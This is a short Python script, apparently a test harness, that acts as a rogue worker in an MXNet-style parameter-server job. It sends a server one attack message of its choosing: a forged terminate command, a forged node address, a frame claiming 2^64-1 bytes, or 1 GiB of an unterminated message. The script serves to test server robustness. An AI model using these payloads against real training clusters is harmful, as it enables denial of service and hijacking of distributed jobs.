"""A compromised worker without MXNet: it joins the job, waits for a file, and sends a server one message of its own.

KIND FILE SCHEDULER OWN SERVER, the last three as ADDRESS:PORT. Kinds: `terminate` tells the server that the job is
over, `elsewhere` that worker 0 is at another address, `huge` sends a frame that says it has 2^64-1 bytes,
`endless` sends 1 GiB of a message that has no last frame.
"""

import contextlib
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "payloads"))
import peer


def address(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


kind, file = sys.argv[1], Path(sys.argv[2])
scheduler, own, server = map(address, sys.argv[3:])
worker = peer.RogueWorker(scheduler, own, 1)
print("JOINED", flush=True)
while not file.exists():
    time.sleep(0.02)
to_server = worker.dial(server)
if kind == "terminate":
    to_server.send(peer.meta(control=peer.control(peer.TERMINATE)))
elif kind == "elsewhere":
    entry = peer.node(role=1, id=9, hostname=b"127.0.0.1", port=1, is_recovery=0, customer_id=0)
    to_server.send(peer.meta(control=peer.control(peer.ADD_NODE, entry)))
elif kind == "endless":
    with contextlib.suppress(OSError):
        for _ in range(1024):
            to_server.send_part(bytes(1 << 20))
else:
    with contextlib.suppress(OSError):  # the server may end the connection, or end
        to_server.send_raw(peer.HUGE_FRAME)
        for _ in range(200):
            to_server.send_raw(peer.OVERFLOW)
print("SENT", flush=True)
print("CLOSED", to_server.is_closed(), flush=True)
time.sleep(600)
